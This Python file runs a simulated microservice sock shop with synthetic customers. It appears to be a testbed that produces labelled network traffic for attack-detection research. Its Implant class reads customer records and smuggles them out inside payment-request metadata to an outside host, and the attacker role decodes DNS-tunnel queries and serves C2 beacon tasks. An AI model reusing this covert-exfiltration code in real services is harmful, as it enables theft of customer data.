#!/usr/bin/env python3
"""The shop's programs, one role per process (python3 standard library only).

Benign roles: seed-db, catalogue, user, carts, orders, front-end, load-test, recommender
(inside the cluster); payment, upstream-dns, attacker (in the "outside" namespace).
Attack roles (attacks.py): exfil-http, exfil-stream + relay, dns-tunnel, port-scan, beacon,
admin-probe; stealthy-exfil is an implant inside the orders process (class Implant here),
switched on by a trigger file. An attack writes its own measurement (first socket
operation, end after its sockets are closed, payload bytes) to its "out" file; the
orchestrator turns that into ground_truth.json.

Usage: shop.py ROLE --conf CONF.json (the orchestrator writes CONF; see orchestrate.py).
"""

import argparse
import base64
import json
import os
import random
import socket
import sys
import threading
import time
from urllib.parse import parse_qs, urlparse

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import attacks  # noqa: E402
import netlib  # noqa: E402

FIRST = ["pedro", "james", "ivan", "chloe", "david", "maria", "wei", "amara", "lucas", "sofia", "noah",
         "fatima", "olga", "kenji", "liam", "emma", "aisha", "mateo", "hana", "omar", "nina", "raj",
         "elena", "tom", "yara", "jonas", "ines", "kofi", "lea", "sam"]
LAST = ["ramirez", "perez", "rodriguez", "thompson", "anderson", "schmidt", "chen", "okafor", "silva",
        "rossi", "nguyen", "kowalski", "tanaka", "murphy", "haddad", "novak", "garcia", "khan", "berg",
        "dubois", "ivanova", "moreau", "larsen", "costa", "mensah", "weber", "park", "ali", "lund", "santos"]
COLOURS = ["blue", "green", "red", "black", "white", "grey", "striped", "purple", "yellow", "brown"]
KINDS = ["sock", "ankle sock", "crew sock", "wool sock", "running sock", "hiking sock", "dress sock"]
CITIES = ["Lisbon", "Oslo", "Accra", "Lyon", "Osaka", "Porto", "Krakow", "Austin", "Leeds", "Turin"]


def make_items(seed):
    rng = random.Random(seed * 7 + 1)
    items = []
    for i in range(1, 41):
        items.append({
            "id": i,
            "name": "%s %s" % (rng.choice(COLOURS), rng.choice(KINDS)),
            "price": round(rng.uniform(3, 25), 2),
            "count": rng.randint(0, 500),
            "tag": rng.sample(["sport", "formal", "casual", "winter", "kids", "smelly", "magic"], 2),
            "description": " ".join(rng.choice(["soft", "warm", "cotton", "breathable", "durable",
                                                "colourful", "comfortable", "classic", "bamboo"])
                                    for _ in range(rng.randint(8, 20))),
            "imageUrl": ["/catalogue/images/%d_1.jpg" % i, "/catalogue/images/%d_2.jpg" % i],
        })
    return items


def make_users(seed, n=1500):
    rng = random.Random(seed * 11 + 3)
    users = []
    seen = set()
    while len(users) < n:
        f, l = rng.choice(FIRST), rng.choice(LAST)
        name = "%s.%s%d" % (f, l, rng.randint(1, 99))
        if name in seen:
            continue
        seen.add(name)
        users.append({
            "username": name,
            "firstName": f.title(), "lastName": l.title(),
            "email": "%s@%s" % (name, rng.choice(["mail.example", "post.example", "inbox.example"])),
            "address": {"number": str(rng.randint(1, 250)), "street": "%s Street" % rng.choice(LAST).title(),
                        "city": rng.choice(CITIES), "postcode": "%05d" % rng.randint(1000, 99999)},
            "card": {"longNum": "".join(str(rng.randint(0, 9)) for _ in range(16)),
                     "expires": "%02d/%d" % (rng.randint(1, 12), rng.randint(27, 31)),
                     "ccv": "%03d" % rng.randint(0, 999)},
            "password": "%032x" % rng.getrandbits(128),
        })
    return users


def fqdn(svc, ns="default"):
    return "%s.%s.svc.cluster.local" % (svc, ns)


def jresp(obj, status=200):
    return status, "application/json", json.dumps(obj).encode()


# ---------------------------------------------------------------- cluster services

def role_seed_db(conf):
    """Fill redis over loopback (not on the capture) before the capture starts."""
    r = netlib.Redis(lambda: ("127.0.0.1", 6379))
    for _ in range(100):
        try:
            r.cmd("PING")
            break
        except OSError:
            time.sleep(0.1)
    items = make_items(conf["seed"])
    users = make_users(conf["seed"])
    cmds = [("FLUSHALL",)]
    for it in items:
        cmds.append(("SET", "item:%d" % it["id"], json.dumps(it)))
    cmds.append(("RPUSH", "catalogue:ids") + tuple(it["id"] for it in items))
    for u in users:
        cmds.append(("SET", "user:%s" % u["username"], json.dumps(u)))
    for i in range(0, len(cmds), 200):
        r.pipeline(cmds[i:i + 200])
    print("seeded %d items, %d users" % (len(items), len(users)))


class Service:
    def __init__(self, conf, name):
        self.conf = conf
        self.rng = random.Random("%s/%s/%s" % (conf["seed"], name, conf["bind"]))
        self.res = netlib.Resolver(conf["dns"])
        self.agent = "%s/1.4" % name
        self.name = name
        self._db = None

    def up(self, svc, port=80):
        return netlib.Upstream(self.res, fqdn(svc), port, self.agent, random.Random(self.rng.random()))

    @property
    def db(self):
        if self._db is None:
            self._db = netlib.Redis(lambda: (self.rng.choice(self.res.lookup(fqdn("shop-db"))), 6379))
        return self._db

    def run(self, port, route):
        srv = netlib.serve_http(self.conf["bind"], port, self.agent, route, rng=self.rng)
        netlib.exit_on_term()
        if self.conf.get("admin"):
            adm = netlib.serve_http(self.conf["bind"], self.conf["admin"]["port"], self.agent,
                                    admin_route(self, self.conf["admin"]["kind"]), rng=self.rng)
            threading.Thread(target=adm.serve_forever, kwargs={"poll_interval": 0.2}, daemon=True).start()
        srv.serve_forever(poll_interval=0.2)


def admin_route(s, kind):
    """What a service's admin, metrics or debug port answers (nobody calls it in benign traffic)."""
    started = time.time()

    def route(method, path, body, h):
        if kind == "metrics" and path.startswith("/metrics"):
            lines = ["# HELP http_requests_total Requests served.", "# TYPE http_requests_total counter"]
            lines += ['http_requests_total{service="%s",code="%d"} %d' % (s.name, c, s.rng.randint(100, 9000))
                      for c in (200, 404, 500)]
            lines += ["process_start_time_seconds %.3f" % started, "process_open_fds %d" % s.rng.randint(9, 40)]
            return 200, "text/plain; version=0.0.4", ("\n".join(lines) + "\n").encode()
        if kind == "admin" and path.startswith("/admin"):
            return jresp({"service": s.name, "db": "shop-db.default.svc.cluster.local:6379", "debug": False,
                          "build": "1.4.%d" % s.rng.randint(0, 30), "uptime_s": round(time.time() - started)})
        if kind == "pprof" and path.startswith("/debug/pprof"):
            text = "goroutine profile: total %d\n" % s.rng.randint(8, 30)
            text += "".join("1 @ 0x%x 0x%x\n#\t0x%x\tmain.handler+0x%x\n" % tuple(
                s.rng.getrandbits(32) for _ in range(4)) for _ in range(6))
            return 200, "text/plain; charset=utf-8", text.encode()
        return jresp({"error": "no route"}, 404)

    return route


def role_catalogue(conf):
    s = Service(conf, "catalogue")

    def route(method, path, body, h):
        u = urlparse(path)
        if u.path == "/catalogue":
            size = int(parse_qs(u.query).get("size", ["6"])[0])
            ids = s.db.cmd("LRANGE", "catalogue:ids", 0, -1)
            pick = s.rng.sample(ids, min(size, len(ids)))
            vals = s.db.cmd("MGET", *[b"item:" + i for i in pick])
            return jresp([json.loads(v) for v in vals if v])
        if u.path.startswith("/catalogue/"):
            v = s.db.cmd("GET", "item:%s" % u.path.rsplit("/", 1)[1])
            return jresp(json.loads(v)) if v else jresp({"error": "not found"}, 404)
        if u.path == "/health":
            return jresp({"status": "OK"})
        return jresp({"error": "no route"}, 404)

    s.run(80, route)


def role_user(conf):
    s = Service(conf, "user")

    def get(name):
        v = s.db.cmd("GET", "user:%s" % name)
        return json.loads(v) if v else None

    def route(method, path, body, h):
        u = urlparse(path)
        if u.path == "/login" and method == "POST":
            req = json.loads(body or b"{}")
            usr = get(req.get("username", ""))
            if not usr:
                return jresp({"error": "unknown user"}, 401)
            return jresp({"user": {k: usr[k] for k in ("username", "firstName", "lastName", "email")},
                          "token": "%032x" % s.rng.getrandbits(128)})
        parts = u.path.strip("/").split("/")
        if len(parts) == 3 and parts[0] == "customers":
            usr = get(parts[1])
            if not usr:
                return jresp({"error": "unknown user"}, 404)
            if parts[2] == "address":
                return jresp(usr["address"])
            if parts[2] == "card":
                return jresp(usr["card"])
        return jresp({"error": "no route"}, 404)

    s.run(80, route)


def role_carts(conf):
    s = Service(conf, "carts")
    cat = s.up("catalogue")

    def route(method, path, body, h):
        parts = urlparse(path).path.strip("/").split("/")
        if len(parts) >= 2 and parts[0] == "carts":
            key = "cart:%s" % parts[1]
            if method == "GET":
                return jresp([json.loads(x) for x in s.db.cmd("LRANGE", key, 0, -1)])
            if method == "POST":
                req = json.loads(body or b"{}")
                st, data = cat.request("GET", "/catalogue/%s" % req.get("itemId", 1))
                if st != 200:
                    return jresp({"error": "catalogue unavailable"}, 503)
                it = json.loads(data)
                line = {"itemId": it["id"], "quantity": req.get("quantity", 1), "unitPrice": it["price"]}
                s.db.cmd("RPUSH", key, json.dumps(line))
                return jresp(line, 201)
            if method == "DELETE":
                s.db.cmd("DEL", key)
                return jresp({"deleted": parts[1]}, 202)
        return jresp({"error": "no route"}, 404)

    s.run(80, route)


class Implant:
    """stealthy-exfil: code injected into the orders process. Once its trigger file appears it
    reads customer records from shop-db over orders' own redis connections and sends them,
    at a paced rate, inside the "metadata" field of orders' payment calls: in the real
    charges, and in extra charges over the same pooled connections when none is due."""

    def __init__(self, trigger, s, pay):
        self.trigger, self.s, self.pay = trigger, s, pay
        self.lock = threading.Lock()
        self.active = False
        threading.Thread(target=self._run, daemon=True).start()

    def take(self):
        """The records due now (rate x elapsed minus what was sent), for one request body."""
        with self.lock:
            if not self.active:
                return ""
            due = int(self.rate * (time.time() - self.start)) - self.sent
            if due <= 0:
                return ""
            while len(self.buf) < due and self.keys:
                batch, self.keys = self.keys[:25], self.keys[25:]
                vals = self.s.db.cmd("MGET", *batch)
                self.buf += "".join("%s\t%s\n" % (k.decode(), (v or b"").decode()) for k, v in zip(batch, vals))
            chunk, self.buf = self.buf[:due], self.buf[due:]
            self.sent += len(chunk.encode())
            self.carriers += 1
            return chunk

    def _run(self):
        while not os.path.exists(self.trigger):
            time.sleep(0.2)
        time.sleep(0.2)  # the orchestrator writes the file atomically; settle anyway
        cfg = json.load(open(self.trigger))
        rng = random.Random("%s/implant" % self.s.conf["seed"])
        with self.lock:
            self.start = time.time()
            self.keys = sorted(self.s.db.cmd("KEYS", "user:*"))
            self.rate, self.buf, self.sent, self.carriers = cfg["rate"], "", 0, 0
            self.active = True
        extra = 0
        while time.time() - self.start < cfg["duration"]:
            time.sleep(cfg["period"] * rng.uniform(0.7, 1.3))
            loot = self.take()
            if loot:
                amount = round(rng.uniform(5, 80), 2)
                self.pay.request("POST", "/v1/charge", {"amount": amount, "currency": "EUR",
                                                        "card": "%04d" % rng.randint(0, 9999), "metadata": loot})
                extra += 1
        with self.lock:
            self.active = False
            out = {"start": self.start, "end": time.time(), "bytes": self.sent, "requests": self.carriers,
                   "extra_requests": extra, "piggybacked_requests": self.carriers - extra}
        netlib.write_json(cfg["out"], out)


def role_orders(conf):
    s = Service(conf, "orders")
    user, carts = s.up("user"), s.up("carts")
    pay = netlib.Upstream(s.res, "api.paygate.example", 80, s.agent, random.Random(s.rng.random()),
                          max_age=(3, 8), max_reqs=(1, 4))
    implant = Implant(conf["implant_file"], s, pay) if conf.get("implant_file") else None

    def route(method, path, body, h):
        if urlparse(path).path == "/orders" and method == "POST":
            name = json.loads(body or b"{}").get("customer", "")
            _, addr = user.request("GET", "/customers/%s/address" % name)
            _, card = user.request("GET", "/customers/%s/card" % name)
            st, items = carts.request("GET", "/carts/%s/items" % name)
            lines = json.loads(items) if st == 200 else []
            total = round(sum(x["unitPrice"] * x["quantity"] for x in lines) + 4.99, 2)
            charge = {"amount": total, "currency": "EUR", "card": json.loads(card or b"{}").get("longNum", "")[-4:]}
            loot = implant.take() if implant else ""
            if loot:
                charge["metadata"] = loot
            st, auth = pay.request("POST", "/v1/charge", charge)
            if st != 200:
                return jresp({"error": "payment declined"}, 402)
            order = {"id": "%024x" % s.rng.getrandbits(96), "customer": name, "items": lines, "total": total,
                     "address": json.loads(addr or b"{}"), "payment": json.loads(auth), "date": time.time()}
            s.db.pipeline([("RPUSH", "orders:%s" % name, json.dumps(order)), ("INCR", "orders:count")])
            carts.request("DELETE", "/carts/%s" % name)
            return jresp(order, 201)
        return jresp({"error": "no route"}, 404)

    s.run(80, route)


def role_recommender(conf):
    """The service deployed mid-capture in new-service: picks items for a customer from the
    catalogue, weighted by the customer's city (asks user)."""
    s = Service(conf, "recommender")
    cat, user = s.up("catalogue"), s.up("user")

    def route(method, path, body, h):
        u = urlparse(path)
        if u.path == "/recommendations":
            name = parse_qs(u.query).get("user", [""])[0]
            city = ""
            if name:
                st, data = user.request("GET", "/customers/%s/address" % name)
                city = json.loads(data).get("city", "") if st == 200 else ""
            st, data = cat.request("GET", "/catalogue?size=4")
            items = json.loads(data) if st == 200 else []
            r = random.Random(city + name)
            r.shuffle(items)
            return jresp([{"id": i["id"], "name": i["name"], "price": i["price"]} for i in items[:3]])
        return jresp({"error": "no route"}, 404)

    s.run(80, route)


PAGE = "<!DOCTYPE html><html><head><title>Socks shop</title><link rel=stylesheet href=/css/style.css></head><body>%s</body></html>"


def role_front_end(conf):
    s = Service(conf, "front-end")
    cat, user, carts, orders = s.up("catalogue"), s.up("user"), s.up("carts"), s.up("orders")
    rec = s.up("recommender")
    flag = conf.get("feature_file")

    def recommend(username=""):
        """After the recommender is deployed its feature flag turns on (a file the orchestrator
        writes); before that the front-end never resolves or calls it."""
        if not flag or not os.path.exists(flag):
            return ""
        st, data = rec.request("GET", "/recommendations?user=%s" % username)
        if st != 200:
            return ""
        return "<aside>%s</aside>" % "".join("<a href=/detail?id=%d>%s</a>" % (i["id"], i["name"])
                                            for i in json.loads(data))

    def html(body, status=200):
        return status, "text/html; charset=utf-8", (PAGE % body).encode()

    def route(method, path, body, h):
        u = urlparse(path)
        q = parse_qs(u.query)
        req = json.loads(body) if body else {}
        if u.path == "/" and method == "GET":
            st, data = cat.request("GET", "/catalogue?size=6")
            items = json.loads(data) if st == 200 else []
            return html("".join("<div class=product><img src=%s><h3>%s</h3><p>%s</p><b>%.2f</b></div>"
                                % (i["imageUrl"][0], i["name"], i["description"], i["price"]) for i in items)
                        + recommend())
        if u.path == "/detail":
            st, data = cat.request("GET", "/catalogue/%s" % q.get("id", ["1"])[0])
            if st != 200:
                return html("<h1>not found</h1>", 404)
            i = json.loads(data)
            return html("<h1>%s</h1><p>%s</p><b>%.2f</b><ul>%s</ul>" % (
                i["name"], i["description"], i["price"], "".join("<li>%s</li>" % t for t in i["tag"])))
        if u.path == "/login" and method == "POST":
            st, data = user.request("POST", "/login", {"username": req.get("username", "")})
            return st, "application/json", data
        if u.path == "/basket" and method == "POST":
            st, data = carts.request("POST", "/carts/%s/items" % req.get("username", ""),
                                     {"itemId": req.get("id", 1), "quantity": 1})
            return st, "application/json", data
        if u.path == "/basket" and method == "GET":
            st, data = carts.request("GET", "/carts/%s/items" % q.get("username", [""])[0])
            recommend(q.get("username", [""])[0])
            return st, "application/json", data
        if u.path == "/checkout" and method == "POST":
            st, data = orders.request("POST", "/orders", {"customer": req.get("username", "")})
            return st, "application/json", data
        return html("<h1>no route</h1>", 404)

    s.run(8080, route)


def role_load_test(conf):
    """Virtual users browsing the shop through the front-end service name."""
    netlib.exit_on_term()
    users = [u["username"] for u in make_users(conf["seed"])]
    res = netlib.Resolver(conf["dns"])
    deadline = conf["deadline"]
    agent = "loadgen/1.4"

    def think(rng):
        time.sleep(min(6.0, max(0.3, rng.expovariate(1 / conf.get("think", 2.0)))))

    def vu(k):
        rng = random.Random("%s/vu/%d" % (conf["seed"], k))
        fe = netlib.Upstream(res, fqdn("front-end"), 8080, agent, random.Random(rng.random()))
        time.sleep(rng.uniform(0, 1))
        while time.time() < deadline:
            name = rng.choice(users)
            fe.request("GET", "/")
            think(rng)
            fe.request("POST", "/login", {"username": name})
            think(rng)
            for _ in range(rng.randint(1, 4)):
                item = rng.randint(1, 40)
                fe.request("GET", "/detail?id=%d" % item)
                think(rng)
                if rng.random() < 0.5:
                    fe.request("POST", "/basket", {"username": name, "id": item})
                    think(rng)
            fe.request("GET", "/basket?username=%s" % name)
            think(rng)
            if rng.random() < 0.35:
                fe.request("POST", "/checkout", {"username": name})
                think(rng)

    threads = [threading.Thread(target=vu, args=(k,), daemon=True) for k in range(conf["virtual_users"])]
    for t in threads:
        t.start()
    while time.time() < deadline and any(t.is_alive() for t in threads):
        time.sleep(0.2)
    os._exit(0)


# ---------------------------------------------------------------- outside hosts

def role_payment(conf):
    rng = random.Random("%s/payment" % conf["seed"])

    c2 = open(conf["c2_log"], "a", buffering=1) if conf.get("c2_log") else None

    def route(method, path, body, h):
        if c2 and urlparse(path).path == "/cdn-cgi/rum" and method == "POST":
            # beacon: the C2 answers each check-in with a small task list (usually "sleep")
            c2.write(json.dumps({"t": time.time(), "peer": h.client_address[0], "bytes": len(body)}) + "\n")
            task = {"task": "sleep", "jitter": 0.25, "id": "%016x" % rng.getrandbits(64),
                    "cfg": "%0128x" % rng.getrandbits(512)}
            return jresp(task)
        if urlparse(path).path == "/v1/charge" and method == "POST":
            req = json.loads(body or b"{}")
            return jresp({"id": "ch_%020x" % rng.getrandbits(80), "status": "approved",
                          "amount": req.get("amount"), "currency": req.get("currency", "EUR")})
        return jresp({"error": "no route"}, 404)

    srv = netlib.serve_http(conf["bind"], 80, "paygate/2.3", route, idle=(4, 6), rng=rng)
    netlib.exit_on_term()
    srv.serve_forever(poll_interval=0.2)


def udp_dns_server(bind, answer):
    """Serve UDP DNS on bind:53; answer(msg) -> (answers, rcode)."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((bind, 53))
    while True:
        data, peer = s.recvfrom(4096)
        try:
            m = netlib.parse_message(data)
            answers, rcode = answer(m, peer)
            s.sendto(netlib.build_response(data, answers, rcode), peer)
        except (ValueError, IndexError, OSError):
            continue


def role_upstream_dns(conf):
    """The benign upstream resolver kube-dns forwards external names to."""
    netlib.exit_on_term()
    zone = {"api.paygate.example": "198.51.100.20"}

    def answer(m, peer):
        ip = zone.get(m["qname"].lower())
        if ip is None:
            return [], 3
        if m["qtype"] == netlib.QTYPE_A:
            return [(netlib.QTYPE_A, 60, socket.inet_aton(ip))], 0
        return [], 0

    udp_dns_server(conf["bind"], answer)


def role_attacker(conf):
    """Attacker host: HTTP sinks on tcp/80 and tcp/8443, authoritative DNS for t.cdn-sync.net.
    Logs what it receives to conf["log"] (one JSON line per request or query)."""
    netlib.exit_on_term()
    log = open(conf["log"], "a", buffering=1)
    lock = threading.Lock()

    def note(**kw):
        kw["t"] = time.time()
        with lock:
            log.write(json.dumps(kw) + "\n")

    def route_for(port):
        def route(method, path, body, h):
            note(kind="http", port=port, peer=h.client_address[0], path=path, bytes=len(body))
            return jresp({"ok": True, "received": len(body)})
        return route

    for port in (80, 8443):
        srv = netlib.serve_http(conf["bind"], port, "nginx", route_for(port), idle=(30, 30))
        threading.Thread(target=srv.serve_forever, kwargs={"poll_interval": 0.2}, daemon=True).start()

    zone = "t.cdn-sync.net"

    def answer(m, peer):
        name = m["qname"].lower()
        if not (name == zone or name.endswith("." + zone)):
            return [], 5  # REFUSED: not our zone
        labels = name[:-len(zone) - 1].split(".") if name != zone else []
        data = "".join(labels[1:])
        try:
            raw = base64.b32decode(data.upper() + "=" * (-len(data) % 8)) if data else b""
        except ValueError:
            raw = b""
        note(kind="dns", peer=peer[0], qname_len=len(name), bytes=len(raw))
        if m["qtype"] == netlib.QTYPE_A:
            return [(netlib.QTYPE_A, 0, socket.inet_aton(conf["bind"]))], 0
        return [], 0

    udp_dns_server(conf["bind"], answer)


ROLES = {
    "seed-db": role_seed_db, "catalogue": role_catalogue, "user": role_user, "carts": role_carts,
    "orders": role_orders, "front-end": role_front_end, "load-test": role_load_test,
    "payment": role_payment, "upstream-dns": role_upstream_dns, "attacker": role_attacker,
    "recommender": role_recommender,
    "exfil-http": attacks.role_exfil_http, "exfil-stream": attacks.role_exfil_stream, "relay": attacks.role_relay,
    "dns-tunnel": attacks.role_dns_tunnel, "port-scan": attacks.role_port_scan, "beacon": attacks.role_beacon,
    "admin-probe": attacks.role_admin_probe,
}


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("role", choices=sorted(ROLES))
    ap.add_argument("--conf", required=True, help="JSON file with this process's settings")
    a = ap.parse_args()
    with open(a.conf) as f:
        conf = json.load(f)
    ROLES[a.role](conf)


if __name__ == "__main__":
    main()
